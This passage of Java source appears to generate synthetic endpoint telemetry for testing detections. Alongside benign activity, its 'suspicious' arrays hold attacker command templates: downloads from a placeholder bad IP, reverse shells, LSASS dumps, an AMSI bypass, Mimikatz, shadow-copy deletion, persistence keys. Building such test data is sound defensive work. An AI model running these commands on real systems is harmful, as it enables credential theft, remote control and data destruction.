            proc(SYS + "whoami.exe", SYS + "inetsrv\\w3wp.exe", WINDOWS_OS,
                    "whoami - displays logged on user information", Account.SERVICE,
                    "whoami /all", "whoami /priv", "whoami.exe /groups"),
            proc(SYS + "certutil.exe", OFFICE16 + "EXCEL.EXE", WINDOWS_OS, "CertUtil.exe", Account.USER,
                    "certutil.exe -urlcache -split -f http://{badip}/{word}.exe C:\\Users\\Public\\{tmp}.exe"),
            proc(POWERSHELL, OFFICE16 + "WINWORD.EXE", WINDOWS_OS, "Windows PowerShell", Account.USER,
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
                            + "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A"
                            + "{encoded}"),
            proc(SYS + "rundll32.exe", POWERSHELL, WINDOWS_OS, "Windows host process (Rundll32)", Account.ELEVATED,
                    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {pid} C:\\Temp\\lsass_{hex}.dmp full",
                    "rundll32.exe C:\\Users\\Public\\{word}.dll,DllRegisterServer"),
            proc(SYS + "net.exe", CMD, WINDOWS_OS, "Net Command", Account.ELEVATED,
                    "net user /add {word}{num} P@ssw0rd!", "net localgroup administrators {word}{num} /add"),
            proc(SYS + "net.exe", SYS + "inetsrv\\w3wp.exe", WINDOWS_OS, "Net Command", Account.SERVICE,
                    "net group \"Domain Admins\" /domain", "net user {user} /domain"),
            proc(SYS + "vssadmin.exe", CMD, WINDOWS_OS, "Command Line Interface for Microsoft® Volume Shadow Copy "
                    + "Service", Account.ELEVATED, "vssadmin.exe delete shadows /all /quiet"),
            proc(SYS + "reg.exe", CMD, WINDOWS_OS, "Registry Console Tool", Account.ELEVATED,
                    "reg save HKLM\\SAM C:\\Temp\\{tmp}.save", "reg save HKLM\\SECURITY C:\\Temp\\{tmp}.save"),
            proc(SYS + "schtasks.exe", CMD, WINDOWS_OS, "Task Scheduler Configuration Tool", Account.ELEVATED,
                    "schtasks /create /tn \"{word}Update\" /tr \"C:\\Users\\Public\\{tmp}.exe\" /sc onlogon /ru "
                            + "\"NT AUTHORITY\\SYSTEM\" /f"),
            proc(SYS + "bitsadmin.exe", CMD, WINDOWS_OS, "BITS administration utility", Account.USER,
                    "bitsadmin /transfer {word} /download /priority high http://{badip}/{word}.exe "
                            + "C:\\Users\\Public\\{tmp}.exe"),
            proc(SYS + "mshta.exe", OFFICE16 + "EXCEL.EXE", WINDOWS_OS, "Microsoft (R) HTML Application host",
                    Account.USER, "mshta.exe http://{badip}/{word}.hta",
                    "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop "
                            + "-w hidden -c "
                            + "IEX(iwr http://{badip}/{word})\"\", 0:close\")"),
            proc(SYS + "nltest.exe", CMD, WINDOWS_OS, "Microsoft® Logon Server Test Utility", Account.USER,
                    "nltest /domain_trusts /all_trusts", "nltest /dclist:corp.local"),
            proc(SYS + "wbem\\WMIC.exe", CMD, WINDOWS_OS, "WMI Commandline Utility", Account.ELEVATED,
                    "wmic /node:{server} process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\{tmp}.txt\""),
            proc("C:\\Users\\Public\\procdump64.exe", CMD, new Vendor("Sysinternals - www.sysinternals.com",
                    "ProcDump", "11.0"), "Sysinternals process dump utility", Account.ELEVATED,
                    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\{tmp}.dmp"),
            proc(SYS + "regsvr32.exe", OFFICE16 + "WINWORD.EXE", WINDOWS_OS, "Microsoft(C) Register Server",
                    Account.USER,
                    "regsvr32.exe /s /n /u /i:http://{badip}/{word}.sct scrobj.dll"),
    };

    static final String SUSPICIOUS_IMAGE = "C:\\Users\\Public\\{tmp}.exe";

    /** Applications of people's desktops: on workstations and terminal servers only. */
    static final Set<String> DESKTOP_ONLY = Set.of(CHROME, MSEDGE, FIREFOX, TEAMS_NEW, WEBVIEW, TEAMS_CLASSIC,
            ONEDRIVE_EXE, SLACK_EXE, ZOOM_EXE, CODE_EXE, OFFICE16 + "OUTLOOK.EXE", OFFICE16 + "WINWORD.EXE",
            OFFICE16 + "EXCEL.EXE", OFFICE16 + "POWERPNT.EXE", PF + "Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe");
    static final Set<String> SERVER_ONLY = Set.of(SYS + "inetsrv\\w3wp.exe",
            PF + "Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe");

    /** Linux processes: image, parent image, account (root, svc or user), command line templates. */
    static final String[][] LINUX = {
            {"/usr/bin/python3", "/usr/bin/bash", "svc", "python3 /opt/{app}/manage.py runserver 0.0.0.0:{port}",
                    "python3 -m pip install --user {pkg}", "/usr/bin/python3 /usr/bin/unattended-upgrade",
                    "python3 /opt/{app}/worker.py --queue {word} --concurrency {small}"},
            {"/usr/sbin/cron", "/usr/sbin/cron", "root", "/usr/sbin/CRON -f"},
            {"/usr/bin/sh", "/usr/sbin/cron", "root", "/bin/sh -c run-parts --report /etc/cron.hourly",
                    "/bin/sh -c /usr/local/bin/backup-{app}.sh >> /var/log/backup/{app}-{date}.log 2>&1",
                    "/bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"},
            {"/usr/bin/node", "/usr/lib/systemd/systemd", "svc", "node /srv/{app}/dist/server.js",
                    "/usr/bin/node /srv/{app}/node_modules/.bin/pm2 reload {app}"},
            {"/usr/bin/java", "/usr/lib/systemd/systemd", "svc",
                    "java -Xmx{small}g -jar /opt/{app}/{app}.jar --server.port={port}"},
            {"/usr/bin/containerd-shim-runc-v2", "/usr/lib/systemd/systemd", "root",
                    "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {hexlong} -address "
                            + "/run/containerd/containerd.sock"},
            {"/usr/sbin/nginx", "/usr/sbin/nginx", "svc", "nginx: worker process",
                    "/usr/sbin/nginx -g daemon on; master_process on;"},
            {"/usr/sbin/sshd", "/usr/sbin/sshd", "root", "sshd: {user} [priv]", "/usr/sbin/sshd -D -R"},
            {"/usr/bin/docker", "/usr/bin/bash", "user", "docker ps --format {{.Names}}",
                    "docker logs --tail {num} {app}", "docker pull registry.corp.local/{app}:{semver}",
                    "docker run --rm -v /srv/{app}:/data registry.corp.local/{app}:{semver}"},
            {"/usr/bin/git", "/usr/bin/bash", "user", "git pull --ff-only origin main", "git fetch --prune",
                    "git clone https://github.com/contoso/{project}.git", "git log -n {small} --oneline"},
            {"/usr/bin/systemctl", "/usr/bin/sudo", "root", "systemctl status {svc}",
                    "systemctl is-active --quiet {svc}", "systemctl restart {svc}"},
            {"/usr/bin/sudo", "/usr/bin/bash", "user", "sudo systemctl restart {svc}",
                    "sudo -u postgres psql -c \"SELECT count(*) FROM {word}\"",
                    "sudo tail -n {num} /var/log/{svc}/error.log"},
            {"/usr/bin/ls", "/usr/bin/bash", "user", "ls -la /var/log/{svc}", "ls /srv/{app}/releases"},
            {"/usr/bin/grep", "/usr/bin/bash", "user", "grep -r {word} /var/log/{svc}/",
                    "grep -c \" 500 \" /var/log/nginx/access.log.{small}"},
            {"/usr/bin/bash", "/usr/sbin/sshd", "user", "-bash", "bash /home/{user}/scripts/{word}.sh {date}",
                    "/bin/bash /opt/{app}/bin/start.sh --env production"},
            {"/usr/bin/tar", "/usr/bin/sh", "root", "tar -czf /backup/{app}_{date}.tar.gz /srv/{app}"},
            {"/usr/bin/gzip", "/usr/sbin/logrotate", "root", "gzip -9 /var/log/{svc}/{svc}.log.{small}"},
            {"/usr/sbin/logrotate", "/usr/bin/sh", "root", "/usr/sbin/logrotate /etc/logrotate.conf"},
            {"/usr/bin/apt-get", "/usr/bin/sudo", "root", "apt-get update -q", "apt-get install -y {pkg}"},
            {"/usr/bin/dpkg", "/usr/bin/apt-get", "root", "/usr/bin/dpkg --status-fd 35 --configure --pending"},
            {"/usr/bin/journalctl", "/usr/bin/sudo", "root", "journalctl -u {svc} --since {isodate} --no-pager"},
            {"/usr/bin/curl", "/usr/bin/bash", "svc", "curl -fsS https://{lhost}.corp.local:{port}/health",
                    "curl -s https://{domain}/api/v1/{word}?since={date}"},
            {"/usr/bin/openssl", "/usr/bin/bash", "user",
                    "openssl x509 -in /etc/ssl/certs/{lhost}.pem -noout -enddate"},
            {"/usr/bin/vim.basic", "/usr/bin/bash", "user", "vim /etc/{svc}/{svc}.conf"},
            {"/usr/bin/ssh", "/usr/bin/bash", "user", "ssh {user}@{lhost}.corp.local"},
            {"/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd", "user", "/lib/systemd/systemd --user"},
            {"/usr/bin/rsync", "/usr/bin/sh", "root", "rsync -az --delete /srv/{app}/ backup@{lhost}:/backup/{app}/",
                    "rsync -a --delete /srv/{app}/releases/ /mnt/backup/{app}/releases/"},
            {"/usr/bin/sed", "/usr/bin/bash", "user", "sed -i s/{word}/{word2}/g /srv/{app}/config/{app}.yml"},
            {"/usr/bin/psql", "/usr/bin/sh", "svc", "psql -h {lhost} -d {word} -c \"VACUUM ANALYZE {word2}\""},
    };

    static final String[][] LINUX_SUSPICIOUS = {
            {"/usr/bin/cat", "/usr/bin/bash", "user", "cat /etc/shadow"},
            {"/usr/bin/cp", "/usr/bin/bash", "root", "cp /etc/shadow /tmp/.{word}/s"},
            {"/usr/bin/base64", "/usr/bin/bash", "user", "base64 -d /tmp/{word}.b64"},
            {"/usr/bin/nc", "/usr/bin/bash", "user", "nc -e /bin/sh {badip} {port}"},
            {"/usr/bin/chmod", "/usr/bin/bash", "user", "chmod +s /tmp/.{word}/sh"},
            {"/usr/bin/wget", "/usr/bin/bash", "svc", "wget -q http://{badip}/{word}.sh -O /tmp/{word}.sh; chmod +x "
                    + "/tmp/{word}.sh"},
            {"/usr/bin/python3", "/usr/bin/bash", "svc", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
                    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                            + "s.connect((\"{badip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
                            + "import pty; pty.spawn(\"/bin/bash\")'"},
            {"/usr/bin/bash", "/usr/bin/bash", "svc", "bash -i >& /dev/tcp/{badip}/{port} 0>&1"},
            {"/usr/bin/rm", "/usr/bin/bash", "user", "rm -f /home/{user}/.bash_history"},
    };

    static final String[] SCRIPT_BOILERPLATE = {
            "prompt", "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
            "{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }", "{ Set-StrictMode -Version 1; $_.OriginInfo }",
            "$global:?", "Get-Location",
    };

    static final String[] SCRIPT_STATEMENTS = {
            "$log = \"C:\\ProgramData\\Contoso\\Logs\\{word}_{date}.log\"",
            "Write-Output \"[$(Get-Date -Format o)] Starting {word} on $env:COMPUTERNAME\" | Out-File -FilePath $log "
                    + "-Append",
            "$disk = Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DeviceID='C:'\"\r\n"
                    + "if ($disk.FreeSpace / $disk.Size -lt 0.{small}) { Write-Warning \"Low disk space on "
                    + "$env:COMPUTERNAME\" }",
            "Test-Connection -ComputerName {server} -Count 2 -Quiet",
            "Copy-Item -Path \"{home}\\Documents\\{doc}.xlsx\" -Destination \"\\\\{server}\\public\\{dept}\\\" "
                    + "-Force",
            "Set-ItemProperty -Path 'HKCU:\\Software\\Contoso\\{app}' -Name '{word}' -Value {num}",
            "Restart-Service -Name {app} -Force",
            "foreach ($f in Get-ChildItem \"C:\\Logs\\{app}\" -Filter *.log) {\r\n"
                    + "    if ($f.LastWriteTime -lt (Get-Date).AddDays(-{small})) { $old += $f.Name }\r\n}",
            "Get-Service -Name {app} | Select-Object Name, Status, StartType",
            "$timer = [Diagnostics.Stopwatch]::StartNew()",
            "$version = (Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Contoso\\{app}' -Name Version).Version",
            "Set-Content -Path \"{home}\\Documents\\{project}\\notes.txt\" -Value \"Updated {isodate} by {user}\"",
            "$lines = Get-Content -Path \"C:\\Logs\\{app}\\{app}_{date}.log\" -Tail {num}",
            "if ($lines -match 'ERROR') { Write-Warning \"{app}: $(($lines -match 'ERROR').Count) errors\" }",
            "[int]$retries = {small}\r\nwhile ($retries -gt 0 -and -not (Test-Path "
                    + "\"\\\\{server}\\public\\{dept}\")) {\r\n"
                    + "    $retries--\r\n}",
            "$rows = Invoke-Sqlcmd -ServerInstance {server} -Database {word} -Query \"SELECT TOP {num} * FROM "
                    + "dbo.{word2} WHERE Created > '{isodate}'\"",
            "New-Item -ItemType Directory -Path \"{home}\\Documents\\{project}\\{word}\" -Force | Out-Null",
            "$config = Get-Content -Raw \"C:\\ProgramData\\Contoso\\{app}\\{word}.json\" | ConvertFrom-Json",
            "$rows | Export-Csv -Path \"\\\\{server}\\reports\\{word}_{date}.csv\" -NoTypeInformation",
            "Get-WinEvent -FilterHashtable @{ LogName = 'Application'; Id = {num}; StartTime = "
                    + "(Get-Date).AddHours(-{small}) } -MaxEvents {num2}",
            "function Get-{word}Summary {\r\n    param([string]$Path = \"{home}\\Documents\\{project}\")\r\n"
                    + "    Get-ChildItem -Path $Path -File | Measure-Object -Property Length -Sum\r\n}",
            "Import-Module \"C:\\Program Files\\WindowsPowerShell\\Modules\\{app}\\{semver}\\{app}.psd1\"",
            "$items = @({num}, {num2}, {num3}) | ForEach-Object { [pscustomobject]@{ Id = $_; Owner = '{user}' } }",
            "Write-Host \"Processed $($rows.Count) rows for {dept} in {num} ms\"",
            "Start-Sleep -Seconds {small}",
    };

    /** Statements that some SigmaHQ hunting rules flag; one script block in twenty or so holds one. */
    static final String[] SCRIPT_STATEMENTS_RARE = {
            "Remove-Item -Path \"$env:TEMP\\{tmp}\" -Recurse -Force -ErrorAction SilentlyContinue",
            "$status = Invoke-RestMethod -Uri \"https://{domain}/api/v2/{word}?since={isodate}\" -TimeoutSec 30",
    };

    static final String[] SCRIPT_SUSPICIOUS = {
            "IEX (New-Object Net.WebClient).DownloadString('http://{badip}/Invoke-Mimikatz.ps1'); "
                    + "Invoke-Mimikatz -DumpCreds",
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
                    + "'NonPublic,Static').SetValue($null,$true)\r\nIEX (New-Object Net.WebClient).DownloadString("
                    + "'https://{badip}/{word}.ps1')",
            "Set-MpPreference -DisableRealtimeMonitoring $true\r\nAdd-MpPreference -ExclusionPath "
                    + "\"C:\\Users\\Public\\{word}\"",
    };

    static final Activity[] FILE_WRITES = {
            new Activity(CHROME, "{home}\\Downloads\\{doc}.pdf", null),
            new Activity(CHROME, LOCAL + "Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{hexs}", null),
            new Activity(SVCHOST, "C:\\Windows\\Prefetch\\{prefetch}-{hexup}.pf", null),
            new Activity(MSEDGE, "{home}\\Downloads\\{doc}.docx", null),
            new Activity(OFFICE16 + "OUTLOOK.EXE", LOCAL + "Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                    + "{hexup}\\{doc}.pdf", null),
            new Activity(ONEDRIVE_EXE, "{home}\\OneDrive - Contoso\\{dept}\\{doc}.xlsx", null),
            new Activity(ONEDRIVE_EXE, LOCAL + "Microsoft\\OneDrive\\logs\\Business1\\SyncEngine-{date}.{num}.odl",
                    null),
            new Activity(OFFICE16 + "WINWORD.EXE", ROAMING + "Microsoft\\Word\\~WRL{small}{num}.tmp", null),
            new Activity(OFFICE16 + "EXCEL.EXE", TEMP + "{hexup}.tmp", null),
            new Activity(EXPLORER, ROAMING + "Microsoft\\Windows\\Recent\\{doc}.lnk", null),
            new Activity(MSMPENG, "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db-wal", null),
            new Activity(MSMPENG, "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{guid}\\"
                    + "mpavbase.vdm", null),
            new Activity(SYS + "msiexec.exe", "C:\\Windows\\Installer\\MSI{hexs}.tmp", null),
            new Activity(PF + "7-Zip\\7z.exe", "{home}\\Downloads\\{doc}\\{doc2}.docx", null),
            new Activity(PYTHON_EXE, ROAMING + "Python\\Python311\\site-packages\\{pkg}\\__init__.py", null),
            new Activity(CODE_EXE, ROAMING + "Code\\User\\workspaceStorage\\{token}\\state.vscdb", null),
            new Activity(GIT_EXE, "{home}\\source\\repos\\{project}\\.git\\FETCH_HEAD", null),
            new Activity(TEAMS_CLASSIC, ROAMING + "Microsoft\\Teams\\IndexedDB\\https_teams.microsoft.com_0."
                    + "indexeddb.leveldb\\{num}.log", null),
            new Activity(SYS + "inetsrv\\w3wp.exe", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex{shortdate}.log", null),
            new Activity(SVCHOST, "C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft\\Windows\\"
                    + "DeliveryOptimization\\Cache\\{token}\\{num}.dat", null),
    };

    static final Activity[] FILE_WRITES_SUSPICIOUS = {
            new Activity(SYS + "rundll32.exe", "C:\\Windows\\Temp\\lsass_{hex}.dmp", null),
            new Activity(POWERSHELL, ROAMING + "Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\{word}.bat", null),
            new Activity(SYS + "certutil.exe", "C:\\Users\\Public\\{tmp}.exe", null),
            new Activity(POWERSHELL, "C:\\Users\\Public\\{tmp}.exe", null),
    };

    static final Activity[] REGISTRY_WRITES = {
            new Activity(EXPLORER, "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\"
                    + ".{ext}\\{small}", "Binary Data"),
            new Activity(EXPLORER, "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                    + "FeatureUsage\\AppSwitched\\{prefetch}", "DWORD (0x000000{hexb})"),
            new Activity(SVCHOST, "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\"
                    + "\\Device\\HarddiskVolume3\\Program Files\\{app}\\{app}.exe", "Binary Data"),
            new Activity(SVCHOST, "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\"
                    + "{lguid}\\DhcpIPAddress", "{ip}"),
            new Activity(OFFICE16 + "WINWORD.EXE", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Reading "
                    + "Locations\\Document {small}\\File Path", "{home}\\Documents\\{doc}.docx"),
            new Activity(OFFICE16 + "EXCEL.EXE", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Excel\\File MRU\\"
                    + "Item {small}", "[F00000000][T01DA{hexup}][O00000000]*{home}\\Documents\\{doc}.xlsx"),
            new Activity(ONEDRIVE_EXE, "HKU\\{sid}\\SOFTWARE\\Microsoft\\OneDrive\\Accounts\\Business1\\"
                    + "LastSignInTime", "DWORD (0x{hex})"),
            new Activity(PF86 + "Google\\Update\\GoogleUpdate.exe", "HKLM\\SOFTWARE\\WOW6432Node\\Google\\Update\\"
                    + "ClientState\\{8A69D345-D564-463C-AFF1-A69D9E530F96}\\LastCheckSuccess", "DWORD (0x{hex})"),
            new Activity(CHROME, "HKU\\{sid}\\SOFTWARE\\Google\\Chrome\\BLBeacon\\version", "{chromever}"),
            new Activity(TEAMS_CLASSIC, "HKU\\{sid}\\SOFTWARE\\Microsoft\\Office\\Teams\\LoggedInOnce",
                    "DWORD (0x00000001)"),
            new Activity(MSMPENG, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\"
                    + "AVSignatureVersion", "1.411.{num}.0"),
            new Activity(SVCHOST, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\"
                    + "Tasks\\{guid}\\DynamicInfo", "Binary Data"),
    };

    static final Activity[] REGISTRY_WRITES_SUSPICIOUS = {
            new Activity(SYS + "reg.exe", "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}",
                    "C:\\Users\\Public\\{tmp}.exe"),
            new Activity(POWERSHELL, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}Updater",
                    "powershell.exe -w hidden -File C:\\Users\\Public\\{word}.ps1"),
            new Activity(POWERSHELL, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
                    + "Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe"),
            new Activity(POWERSHELL, "HKU\\{sid}\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\(Default)",
                    "C:\\Users\\Public\\{tmp}.exe"),
    };

    static final Connection[] CONNECTIONS = {
            new Connection(CHROME, "{domain}", "", 443),
            new Connection(MSEDGE, "{domain}", "", 443),
            new Connection(SVCHOST, "settings-win.data.microsoft.com", "20.42.65.", 443),
            new Connection(SVCHOST, "{dc}", "10.1.0.", 389),
            new Connection(TEAMS_NEW, "teams.microsoft.com", "52.113.", 443),
            new Connection(OFFICE16 + "OUTLOOK.EXE", "outlook.office365.com", "52.97.", 443),
            new Connection(ONEDRIVE_EXE, "contoso-my.sharepoint.com", "13.107.136.", 443),
            new Connection(MSMPENG, "wdcp.microsoft.com", "20.190.159.", 443),
            new Connection(SVCHOST, "{dc}", "10.1.0.", 135),
            new Connection(FIREFOX, "{domain}", "", 443),
            new Connection(SLACK_EXE, "wss-primary.slack.com", "3.120.", 443),
            new Connection(ZOOM_EXE, "zoom.us", "170.114.", 443),
            new Connection(CODE_EXE, "marketplace.visualstudio.com", "13.107.42.", 443),
            new Connection(GIT_EXE, "github.com", "140.82.121.", 443),
            new Connection(SVCHOST, "", "10.1.4.", 445),
            new Connection(PF86 + "Google\\Update\\GoogleUpdate.exe", "update.googleapis.com", "142.250.185.", 443),
    };

    static final Connection[] CONNECTIONS_SUSPICIOUS = {
            new Connection(SUSPICIOUS_IMAGE, "", "203.0.113.", 4444),
            new Connection(SYS + "rundll32.exe", "", "198.51.100.", 8080),
            new Connection(POWERSHELL, "", "198.51.100.", 4444),
            new Connection(SYS + "certutil.exe", "raw.githubusercontent.com", "185.199.108.", 443),
    };

    /** DLLs: path, description (the company is the loading process's when the DLL sits beside it). */
    static final String[][] SYSTEM_DLLS = {
            {"ntdll.dll", "NT Layer DLL"}, {"kernel32.dll", "Windows NT BASE API Client DLL"},
            {"KernelBase.dll", "Windows NT BASE API Client DLL"},
            {"user32.dll", "Multi-User Windows USER API Client DLL"},
            {"advapi32.dll", "Advanced Windows 32 Base API"}, {"combase.dll", "Microsoft COM for Windows"},
            {"ole32.dll", "Microsoft OLE for Windows"}, {"shell32.dll", "Windows Shell Common Dll"},
            {"ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"}, {"crypt32.dll", "Crypto API32"},
            {"wininet.dll", "Internet Extensions for Win32"}, {"winhttp.dll", "Windows HTTP Services"},
            {"bcrypt.dll", "Windows Cryptographic Primitives Library"}, {"rpcrt4.dll", "Remote Procedure Call Runtime"},
            {"sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"}, {"msvcrt.dll", "Windows NT CRT DLL"},
            {"ucrtbase.dll", "Microsoft® C Runtime Library"}, {"gdi32.dll", "GDI Client DLL"},
            {"uxtheme.dll", "Microsoft UxTheme Library"}, {"dwmapi.dll", "Microsoft Desktop Window Manager API"},
            {"windows.storage.dll", "Microsoft WinRT Storage API"}, {"profapi.dll", "User Profile Basic API"},
            {"powrprof.dll", "Power Profile Helper DLL"}, {"cryptbase.dll", "Base cryptographic API DLL"},
            {"iphlpapi.dll", "IP Helper API"}, {"dnsapi.dll", "DNS Client API DLL"},
            {"mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider"},
            {"nsi.dll", "NSI User-mode interface DLL"},
            {"wintrust.dll", "Microsoft Trust Verification APIs"}, {"msasn1.dll", "ASN.1 Runtime APIs"},
            {"oleaut32.dll", "OLEAUT32.DLL"}, {"shlwapi.dll", "Shell Light-weight Utility Library"},
            {"version.dll", "Version Checking and File Installation Libraries"},
            {"propsys.dll", "Microsoft Property System"}, {"clbcatq.dll", "COM+ Configuration Catalog"},
            {"netapi32.dll", "Net Win32 API DLL"}, {"secur32.dll", "Security Support Provider Interface"},
            {"sspicli.dll", "Security Support Provider Interface"}, {"userenv.dll", "Userenv"},
            {"kernel.appcore.dll", "AppModel API Host"},
    };

    static final String[] APP_DLLS = {"chrome_elf.dll", "libEGL.dll", "libGLESv2.dll", "ffmpeg.dll",
            "msedge_elf.dll", "mso20win32client.dll", "mso99Lwin32client.dll", "node.dll",
            "vk_swiftshader.dll", "d3dcompiler_47.dll", "LoggingPlatform.dll", "FileSyncClient.dll",
            "mozglue.dll", "xul.dll", "nss3.dll", "lgpllibs.dll", "zVideoUI.dll", "Qt5Core.dll"};

    static final Activity[] IMAGE_LOADS_SUSPICIOUS = {
            new Activity(OFFICE16 + "WINWORD.EXE", POWERSHELL.replace("powershell.exe",
                    "System.Management.Automation.dll"), "System.Management.Automation"),
            new Activity(TEMP + "{tmp}.exe", TEMP + "dbghelp.dll", "Windows Image Helper"),
            new Activity(SUSPICIOUS_IMAGE, "C:\\Users\\Public\\dbgcore.dll", "Windows DLL Helper"),
            new Activity(SYS + "rundll32.exe", "C:\\Users\\Public\\{word}.dll", ""),
    };

    static final String[] DOMAINS = {"www.google.com", "login.microsoftonline.com", "www.bing.com", "github.com",
            "outlook.office.com", "contoso.sharepoint.com", "www.youtube.com", "stackoverflow.com",
            "fonts.googleapis.com", "www.linkedin.com", "docs.google.com", "en.wikipedia.org", "www.microsoft.com",
            "learn.microsoft.com", "portal.azure.com", "contoso.atlassian.net", "contoso.my.salesforce.com",
            "contoso.service-now.com", "www.amazon.com", "aws.amazon.com", "cdn.jsdelivr.net", "cdnjs.cloudflare.com",
            "ajax.googleapis.com", "www.reddit.com", "news.ycombinator.com", "www.nytimes.com", "www.bbc.co.uk",
            "www.reuters.com", "www.bloomberg.com", "acrobat.adobe.com", "contoso.zendesk.com", "na3.docusign.net",
            "www.office.com", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "nodejs.org",
            "docs.python.org", "hub.docker.com", "www.atlassian.com", "bitbucket.org", "app.box.com",
            "www.dropbox.com", "mail.google.com", "maps.google.com", "www.weather.com", "www.ups.com",
            "www.fedex.com", "www.expedia.com", "www.booking.com", "www.indeed.com", "www.cisco.com",
            "webex.com", "www.oracle.com", "www.ibm.com", "www.mozilla.org", "addons.mozilla.org",
            "www.paypal.com", "developer.mozilla.org", "medium.com", "www.gartner.com", "www.zdnet.com",
            "techcommunity.microsoft.com", "www.theverge.com", "www.wsj.com", "www.ft.com", "www.economist.com",
            "www.glassdoor.com", "www.workday.com", "contoso.wd5.myworkdaysite.com", "www.concur.com",
            "www.notion.so", "www.figma.com", "miro.com", "www.canva.com", "trello.com", "www.shopify.com",
            "www.ebay.com", "www.apple.com", "support.apple.com"};

    static final String[] DOC_WORDS = {"Q1", "Q2", "Q3", "Q4", "budget", "forecast", "invoice", "contract",
            "report", "minutes", "meeting notes", "proposal", "roadmap", "onboarding", "policy", "review",
            "timesheet", "expenses", "presentation", "draft", "final", "summary", "plan", "inventory", "audit",
            "offer", "NDA", "SOW", "specification", "release notes", "architecture", "survey", "payroll",
            "travel", "training", "customer", "vendor", "sales", "marketing", "hiring"};
    static final String[] WORDS = {"sync", "export", "inventory", "billing", "orders", "customers", "metrics",
            "cleanup", "backup", "deploy", "health", "reports", "audit", "users", "assets", "tickets", "alerts",
            "builds", "payments", "catalog", "search", "events", "sessions", "quota", "archive", "ledger",
            "shipping", "pricing", "notify", "monitor"};
    static final String[] PROJECTS = {"webshop", "billing-api", "data-pipeline", "mobile-app", "infra",
            "reporting", "hr-portal", "crm-sync", "analytics", "auth-service", "docs-site", "etl-jobs",
            "payments", "inventory-ui", "ml-models", "monitoring", "intranet", "partner-api", "warehouse",
            "scheduler"};
    static final String[] PACKAGES = {"requests", "pandas", "numpy", "flask", "django", "boto3", "pytest",
            "lodash", "express", "react", "typescript", "webpack", "eslint", "axios", "git", "nodejs-lts",
            "7zip", "vscode", "openssl", "curl", "nginx", "postgresql-client", "jq", "python3-venv"};
    static final String[] APPS = {"contoso-web", "billing", "orders", "crm", "reporting", "intranet", "api",
            "payments", "search", "auth", "inventory", "scheduler", "gateway", "portal", "etl"};
    static final String[] LINUX_SERVICES = {"nginx", "postgresql", "redis", "docker", "kubelet", "ssh",
            "rabbitmq-server", "elasticsearch", "grafana-server", "prometheus", "haproxy", "cron", "rsyslog",
            "containerd", "node-exporter"};
    static final String[] DEPARTMENTS = {"Finance", "HR", "Sales", "Marketing", "Engineering", "Legal", "IT",
            "Operations", "Procurement", "Support", "Executive", "Facilities"};
    static final String[] DOC_EXTENSIONS = {"docx", "xlsx", "pdf", "pptx", "txt", "csv", "zip", "png", "jpg"};
    static final String[] TASK_SERVERS = {"App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
            "BackgroundTaskHost.WebAccountProvider", "Microsoft.MicrosoftOfficeHub.AppX.BackgroundTask",
            "App.AppX9rkaq77s0jzh1tyccadx9ghba15r6t3h.mca", "Microsoft.WindowsStore.AppX.BackgroundTask"};
    static final String[] CLSIDS = {"{3EB3C877-1F16-487C-9050-104DBCD66683}",
            "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
            "{338B40F9-9D60-4897-9B47-4E1D1F4F4E3E}", "{7966B4D8-4FDC-4126-A10B-39A3209AD251}"};
